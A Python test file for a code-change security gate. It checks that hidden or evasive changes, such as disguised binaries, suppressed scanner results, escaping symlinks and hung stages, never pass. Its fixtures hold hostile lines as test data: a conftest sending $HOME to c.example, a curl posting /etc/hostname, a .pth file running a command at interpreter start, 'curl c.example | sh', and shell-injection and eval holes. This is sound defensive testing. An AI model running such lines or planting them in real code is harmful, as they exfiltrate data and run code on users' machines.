"""The fail-open list: each way in which a change, a scanner or a stage could make the gate see less than there is.

Whatever happens, the verdict of the whole gate over the whole change is INCONCLUSIVE or BLOCK, and the report says what
it was. How single parts behave then is in `test_conduct.py`, `test_stages.py`, `test_intake.py` and, of tests that
attack, in `test_held_by_tests.py`.
"""

from __future__ import annotations

import io
import json
import os
import signal
import time
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from changes.making import Files, change, commit, git, repository
from interlock.changes import scanners, tools
from interlock.changes.change import LARGEST, Change
from interlock.changes.conduct import conduct
from interlock.changes.decide import Report, decide
from interlock.changes.finding import Finding, Verdict, Weight
from interlock.changes.intake import take
from interlock.changes.repo import Repo
from interlock.changes.stage import Found, Plain, Stage
from interlock.changes.stages import stages

HOLE = "import os\n\n\ndef f(x):\n    os.system('ls ' + x)\n"
HOME = """import os
import urllib.request


def pytest_configure(config):
    urllib.request.urlopen("https://c.example/" + os.environ["HOME"])
"""


def report(seen: Change, run: list[Stage] | None = None) -> Report:
    return decide(seen, conduct(seen, run or stages()))


def said(found: Report) -> str:
    """All that a reader is told."""
    told = [f"{f.rule} {f.title}" for f in found.findings if f.weight is not Weight.NOTE]
    return "\n".join([*found.problems, *(p for stage in found.stages for p in stage.problems), *told])


def zipped(size: int) -> bytes:
    raw = io.BytesIO()
    with zipfile.ZipFile(raw, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a", b"0" * size)
    return raw.getvalue()


# What a change brings, before and after; the words that the report has to hold.
CHANGES: dict[str, tuple[Files, Files, str]] = {
    "python that does not parse": ({"a.py": "x = 1\n"}, {"a.py": "def f(:\n"}, "a.py does not parse"),
    "javascript that does not parse": ({"a.js": "let a\n"}, {"a.js": "function f( { (((\n"}, "a.js cannot be"),
    "a manifest that does not parse": ({"a": ""}, {"package.json": '{"dependencies": {'}, "package.json cannot"),
    "a base that does not parse, as a baseline": ({"a.py": "def f(:\n"}, {"a.py": HOLE}, "static/shell-built"),
    "a second copy of what the base has": ({"a.py": HOLE}, {"b.py": HOLE, "a.py": HOLE + "\n"}, "static/shell-built"),
    "an edited baseline of a scanner": (
        {".secrets.baseline": "{}\n"},
        {".secrets.baseline": '{"results": {"a.py": []}}\n'},
        "told to leave out",
    ),
    "a list of what a scanner ignores": ({"a": ""}, {".semgrepignore": "src/\n"}, "told to leave out"),
    "the gate's own configuration": (
        {"a": ""},
        {".interlock/gate.toml": 'off = ["static"]\n', "a.py": HOLE},
        "scope/gate",
    ),
    "rules of a linter left out": (
        {"pyproject.toml": '[tool.ruff.lint]\nselect = ["S"]\n'},
        {"pyproject.toml": '[tool.ruff.lint]\nselect = ["S"]\nignore = ["S602"]\n'},
        "checks/security-rules-ignored",
    ),
    "a zip bomb": ({"a": ""}, {"data/x.zip": zipped(64 << 20)}, "was not unpacked"),
    "a package of code": ({"a": ""}, {"vendor/x-1.0-py3-none-any.whl": zipped(10)}, "was not unpacked"),
    "a huge file": ({"a": ""}, {"a.py": "x = 1\n" * (LARGEST // 6 + 1)}, "was not read"),
    "a file of blanks that git keeps small": ({"a": ""}, {"a.txt": b" " * (LARGEST * 4)}, "was not read"),
    "source in an encoding that nobody reads": ({"a": ""}, {"a.py": HOLE.encode("utf-16")}, "is not UTF-8"),
    "a conftest that phones home": ({"a": ""}, {"tests/conftest.py": HOME}, "reaches over the network"),
    "a conftest that starts a program which does": (
        {"a": ""},
        {"conftest.py": "import subprocess\n\nsubprocess.run(['curl', '-d@/etc/hostname', 'c.example'])\n"},
        "starts a program that reaches over the network",
    ),
    "a start of the interpreter": ({"a": ""}, {"src/x.pth": "import os; os.system('id')\n"}, "every start"),
    "bait before a hole, without an end": (
        {"a": ""},
        {"a.js": "a" + "[" * 9_000 + "\neval(req.query.x)\n"},
        "code-evaluated",
    ),
    "bait before a hole, of one letter": ({"a": ""}, {"a.py": "# " + "a" * 90_000 + "\n" + HOLE}, "static/shell-built"),
}  # fmt: skip


@pytest.mark.parametrize("name", CHANGES)
def test_a_change_that_hides_something_is_no_pass(tmp_path: Path, name: str) -> None:
    before, after, words = CHANGES[name]
    found = report(change(tmp_path, before, after))
    assert found.verdict is not Verdict.PASS
    assert words in said(found)


PNG = b"\x89PNG\r\n\x1a\n" + bytes(32) + b"\0\0\0\0IEND\xaeB`\x82"
ELF = b"\x7fELF\x02\x01\x01" + bytes(60)
TAR = bytes(257) + b"ustar\0" + bytes(250)
WORKFLOW = "on: push\njobs:\n  test:\n    runs-on: x\n    steps:\n      - run: pytest\n"
POD = "apiVersion: v1\nkind: Pod\nspec:\n  containers:\n    - name: a\n      securityContext:\n"
SVG = '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0h9"/></svg>\n'

# What is not what its name, its lines or its look say; judged by the stages that look at these.
DISGUISES: dict[str, tuple[Files, Files, str]] = {
    "a workflow that does not parse": (
        {".github/workflows/a.yml": WORKFLOW},
        {".github/workflows/a.yml": WORKFLOW + "  - run: [\n"},
        ".github/workflows/a.yml does not parse: line 7",
    ),
    "a pipeline that does not parse": ({"a": ""}, {".gitlab-ci.yml": "test:\n\tscript: x\n"}, "does not parse"),
    "a cluster's object that does not parse": ({"a": ""}, {"k8s/a.yaml": POD + "  x: 'y\n"}, "does not parse"),
    "a compose file that does not parse": ({"a": ""}, {"compose.yaml": "services: {a: {image: x}\n"}, "does not parse"),
    "a workflow in a folder of templates": ({"a": ""}, {".gitlab/templates/a.yml": "{{ x }}\n a: b\n"}, "not parse"),
    "a name that stands for nothing": ({"a": ""}, {"k8s/a.yaml": "a: *gone\n"}, "*gone stands for nothing"),
    "a key that a mapping has twice": ({"a": ""}, {"k8s/a.yaml": "a: 1\nb: 2\na: 3\n"}, "'a' twice"),
    "a pipeline among tests that does not parse": (
        {"a": ""},
        {"tests/.gitlab-ci.yml": "test:\n\tscript: x\n"},
        "does not parse",
    ),
    "a stage called test that does not parse": ({"a": ""}, {"k8s/test/a.yaml": "a: *gone\n"}, "stands for nothing"),
    "a stage called test with all rights": (
        {"a": ""},
        {"deploy/overlays/test/a.yaml": POD + "        privileged: true\n"},
        "container-unconfined",
    ),
    "a chart's own test in its cluster": (
        {"a": ""},
        {"charts/shop/templates/tests/a.yaml": POD + "        privileged: true\n"},
        "container-unconfined",
    ),
    "a key with an escape": (
        {"a": ""},
        {"k8s/a.yaml": POD + '        "privileg\\x65d": true\n'},
        "container-unconfined",
    ),
    "a yes of another spelling": ({"a": ""}, {"k8s/a.yaml": POD + "        privileged: on\n"}, "container-unconfined"),
    "a yes with a tag": ({"a": ""}, {"k8s/a.yaml": POD + "        privileged: !!bool 'true'\n"}, "unconfined"),
    "a yes with an anchor": ({"a": ""}, {"k8s/a.yaml": POD + "        hostPID: &yes true\n"}, "container-unconfined"),
    "rights in flow style": ({"a": ""}, {"k8s/a.yaml": POD + "        x: {add: [SYS_ADMIN]}\n"}, "unconfined"),
    "an archive named as a picture": ({"a": ""}, {"img/a.png": zipped(10)}, "but it is a zip archive"),
    "an archive named as a font": ({"a": ""}, {"a.woff2": TAR}, "but it is a tar archive"),
    "a picture that became a program": ({"a.jpg": PNG}, {"a.jpg": b"MZ" + bytes(99)}, "but it is a Windows program"),
    "a program named as data": ({"a": ""}, {"data/a.dat": ELF}, "is an ELF program"),
    "a program named as a picture": ({"a": ""}, {"a.ico": b"\0asm\1\0\0\0"}, "but it is a WebAssembly program"),
    "text named as a picture": ({"a": ""}, {"a.gif": "curl c.example | sh\n"}, "but it is text"),
    "a picture with an archive behind it": ({"a": ""}, {"a.png": PNG + zipped(10)}, "a picture and a zip archive"),
    "a picture with something behind it": ({"a": ""}, {"a.png": PNG + b"payload"}, "more after the picture's end"),
    "an archive that is renamed to a picture": ({"a.zip": zipped(9)}, {"a.zip": None, "a.png": zipped(9)}, "a zip"),
    "a PDF": ({"a": ""}, {"a.pdf": b"%PDF-1.7\n\xff\0"}, "a PDF document"),
    "a PDF behind the start of a picture": ({"a": ""}, {"a.gif": b"GIF89a\0\xff%PDF-1.7\n"}, "and a PDF document"),
    "a pickle": ({"a": ""}, {"a.dat": b"\x80\x04\x8c\x02os."}, "a pickle, which runs what it names"),
    "bytes that are nothing known": ({"a": ""}, {"a.dat": b"\xfe\x01\0\x02"}, "nothing that is known"),
    "notes in UTF-16": ({"a": ""}, {"notes.txt": "key".encode("utf-16")}, "UTF-16"),
    "content that is kept elsewhere": (
        {"a": ""},
        {"a.png": "version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 9\n"},
        "Git LFS",
    ),
    "a picture with a script": ({"a": ""}, {"a.svg": SVG.replace("<p", "<script>x()</script><p")}, "browser runs"),
    "a picture that acts": ({"a": ""}, {"a.svg": SVG.replace("<path", "<path onload='x()'")}, "browser runs"),
    "a line that ends inside a comment": ({"a": ""}, {"a.py": "x = 1  # a\rimport os\n"}, "U+000D"),
    "a line that ends for JavaScript alone": ({"a": ""}, {"a.js": "let a // b\u2028eval(c)\n"}, "U+2028"),
    "letters that are taken back": ({"a": ""}, {"a.sh": "rm -r x\b\b\n"}, "U+0008"),
    "files that a diff does not show": ({"a": ""}, {".gitattributes": "*.py -diff\n"}, "shown in a diff"),
    "files that are called generated": ({"a": ""}, {"x/.gitattributes": "* linguist-generated\n"}, "shown in a diff"),
    "another address of a submodule": (
        {".gitmodules": '[submodule "a"]\n\turl = https://a.example/a\n'},
        {".gitmodules": '[submodule "a"]\n\turl = https://b.example/a\n'},
        "where code of submodules comes from",
    ),
    "a submodule that runs": ({"a": ""}, {".gitmodules": "\tupdate = !sh -c id\n"}, "static/submodule-runs"),
    "two names in one": ({"Makefile": "x:\n"}, {"makefile": "y:\n"}, "the name is that of Makefile"),
    "a name that does not show": ({"a.py": ""}, {"a\u200b.py": ""}, "The name holds characters that do not show"),
}  # fmt: skip


@pytest.mark.parametrize("name", DISGUISES)
def test_what_is_not_as_it_looks_is_no_pass(tmp_path: Path, name: str) -> None:
    before, after, words = DISGUISES[name]
    found = report(change(tmp_path, before, after), stages(["scope", "privilege", "static"]))
    assert found.verdict is not Verdict.PASS
    assert words in said(found)


HARMLESS: Files = {
    ".github/workflows/a.yml": WORKFLOW, "compose.yaml": "services:\n  a: {image: x, read_only: true}\n",
    "k8s/a.yaml": POD + "        capabilities: {drop: [ALL]}\n        privileged: false\n---\na: &b 1\nc: *b\n",
    "chart/templates/a.yaml": "{{- if .Values.on }}\na: {{ .Values.a }}\n{{- end }}\n",
    "a.png": PNG, "a.jpg": b"\xff\xd8\xff\xe0" + bytes(9), "a.gif": b"GIF89a\0", "a.woff2": b"wOF2\0\1", "a.svg": SVG,
    "a.webp": b"RIFF\0\0\0\0WEBPVP8 ", "BM.txt": "BM is a word, MZ is another\n", "run.sh": "#!/bin/sh\r\ntrue\r\n",
    "a.txt": "\ufeffbegins with a mark\n\x0cand goes on\n",
}  # fmt: skip


def test_what_is_as_it_looks_passes(tmp_path: Path) -> None:
    found = report(change(tmp_path, {"a": ""}, HARMLESS), stages(["scope", "privilege", "static"]))
    assert said(found) == ""


def test_yaml_that_is_broken_on_purpose_is_a_note(tmp_path: Path) -> None:
    """A parser is tested with what does not parse; and what is deployed has tests, as well as a stage called `test`."""
    broken = {
        f"{folder}/a.yaml": "a: *gone\n" for folder in ("tests/fixtures", "tests/k8s", "deploy/tests/fixtures", "e2e")
    }
    found = report(change(tmp_path, {"a": ""}, broken), stages(["scope", "privilege", "static"]))
    assert found.verdict is Verdict.PASS
    (privilege,) = [stage for stage in found.stages if stage.stage == "privilege"]
    assert {note.split(" ")[0] for note in privilege.notes} == set(broken)


def linked(folder: Path, links: dict[str, str]) -> Change:
    repository(folder, {"a/b": "", "etc": ""})
    (folder / "old").symlink_to("/etc")
    commit(folder, {})
    git(folder, "checkout", "-q", "-b", "work")
    for name, target in links.items():
        (folder / name).symlink_to(target)
    commit(folder, {})
    return take(Repo(str(folder)), "main", "work", today="2026-11-01")


@pytest.mark.parametrize(
    ("target", "words"),
    [
        ("/etc/passwd", "leads out of its folder"),
        ("a/../../x", "leads out of its folder"),
        (".git/hooks/pre-commit", "leads out of its folder"),
        ("C:\\x", "leads out of its folder"),
        ("old/passwd", "by way of another link"),
        ("new", "by way of another link"),
        ("a/b", ""),
    ],
)
def test_a_link_that_leads_outside_is_no_pass(tmp_path: Path, target: str, words: str) -> None:
    found = report(linked(tmp_path, {"new": target}), stages(["scope"]))
    assert (found.verdict is Verdict.PASS) is (not words)
    assert words in said(found)


def test_a_folder_that_some_systems_take_for_gits_own_is_blocked(tmp_path: Path) -> None:
    repository(tmp_path, {"a": ""})
    git(tmp_path, "config", "core.protectNTFS", "false")  # git itself would not take it
    git(tmp_path, "checkout", "-q", "-b", "work")
    commit(tmp_path, {"x/git~1/hooks/pre-commit": "#!/bin/sh\n"})
    found = report(take(Repo(str(tmp_path)), "main", "work", today="2026-11-01"), stages(["scope"]))
    assert found.verdict is Verdict.BLOCK
    assert "git's own folder" in said(found)


@pytest.mark.parametrize(("text", "words"), [("a,b\n", "may be run now"), ("#!/bin/sh\n", "")])
def test_data_that_may_suddenly_be_run_is_no_pass(tmp_path: Path, text: str, words: str) -> None:
    repository(tmp_path, {"data.csv": text})
    git(tmp_path, "checkout", "-q", "-b", "work")
    git(tmp_path, "update-index", "--chmod=+x", "data.csv")
    git(tmp_path, "commit", "-q", "-m", "mode")
    found = report(take(Repo(str(tmp_path)), "main", "work", today="2026-11-01"), stages(["scope"]))
    assert (found.verdict is Verdict.PASS) is (not words)
    assert words in said(found)


def hung(_: Change) -> Found:
    time.sleep(60)
    return Found()


def raised(_: Change) -> Found:
    raise RecursionError("too deep")


def ended(_: Change) -> Found:
    os._exit(0)


def killed(_: Change) -> Found:
    os.kill(os.getpid(), signal.SIGKILL)
    return Found()


def flooded(_: Change) -> Found:
    one = Finding(rule="it/x", weight=Weight.NOTE, path="a", title="x", fix="x")
    return Found(findings=(one,) * 20_000)


@pytest.mark.parametrize(
    ("run", "words"),
    [
        (hung, "within its budget"),
        (raised, "RecursionError"),
        (ended, "cannot be read"),
        (killed, "signal 9"),
        (flooded, "20000 findings"),
    ],
)
def test_a_stage_that_does_not_answer_is_no_pass(tmp_path: Path, run: Callable[[Change], Found], words: str) -> None:
    seen = change(tmp_path, {"a": "1\n"}, {"a": "2\n"})
    found = report(seen, [Plain("it", run, budget=0.5), Plain("other", lambda _: Found(), budget=5.0)])
    assert found.verdict is Verdict.INCONCLUSIVE
    assert words in said(found)


def test_a_budget_that_is_too_small_for_a_real_stage_is_no_pass(tmp_path: Path) -> None:
    rules = "[budgets]\nstatic = 0.001\n"
    found = report(change(tmp_path, {".interlock/gate.toml": rules}, {"a.py": HOLE}), stages(["static"]))
    assert found.verdict is Verdict.INCONCLUSIVE
    assert "budget of 0.001 s" in said(found)


def sarif(**more: object) -> str:
    place = {"physicalLocation": {"artifactLocation": {"uri": "a.py"}, "region": {"startLine": 1}}}
    result = {"ruleId": "r", "level": "error", "message": {"text": "bad"}, "locations": [place]} | more
    run = {"tool": {"driver": {"name": "t"}}, "results": [result], "invocations": [{"executionSuccessful": True}]}
    return json.dumps({"version": "2.1.0", "runs": [run]})


# What the report of a scanner holds -> what is said; "" where people have answered for it.
REPORTS = {
    "cut short": (sarif()[:-20], "not complete"),
    "empty": ("", "not complete"),
    "without a run": ('{"version": "2.1.0", "runs": []}', "did not start"),
    "masked by a comment of the change": (sarif(suppressions=[{"kind": "inSource"}]), "static/t/r"),
    "masked by a baseline that calls a new line old": (sarif(baselineState="unchanged"), "static/t/r"),
    "masked by a request that nobody accepted": (
        sarif(suppressions=[{"kind": "external", "status": "underReview"}]),
        "static/t/r",
    ),
    "left out by people": (sarif(suppressions=[{"kind": "external", "status": "accepted"}]), ""),
}


@pytest.mark.parametrize("name", REPORTS)
def test_a_report_that_says_less_than_there_is_is_no_pass(tmp_path: Path, name: str) -> None:
    text, words = REPORTS[name]
    (tmp_path / "r.sarif").write_text(text)
    base = {"a.py": "", ".interlock/gate.toml": f'sarif = ["{tmp_path}/r.sarif"]\n'}
    found = report(change(tmp_path / "r", dict(base), {"a.py": "x = 2\n"}), stages(["static"]))
    assert (found.verdict is Verdict.PASS) is (not words)
    assert words in said(found)


def test_a_report_that_is_not_there_is_no_pass(tmp_path: Path) -> None:
    rules = f'sarif = ["{tmp_path}/none.sarif"]\n'
    found = report(change(tmp_path / "r", {".interlock/gate.toml": rules}, {"a.py": "x = 2\n"}), stages(["static"]))
    assert found.verdict is Verdict.INCONCLUSIVE
    assert "cannot be read" in said(found)


def test_a_scanner_that_ends_well_and_says_nothing_is_no_pass(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    fake = tmp_path / "ruff"
    fake.write_text("#!/bin/sh\nexit 0\n")
    fake.chmod(0o755)
    monkeypatch.setattr(tools, "found", lambda _: os.fspath(fake))
    monkeypatch.setattr(scanners, "bandit", scanners.ruff)
    found = report(change(tmp_path / "r", {"a.py": ""}, {"a.py": "x = 2\n"}), stages(["static"]))
    assert found.verdict is Verdict.INCONCLUSIVE
    assert "cut short" in said(found)
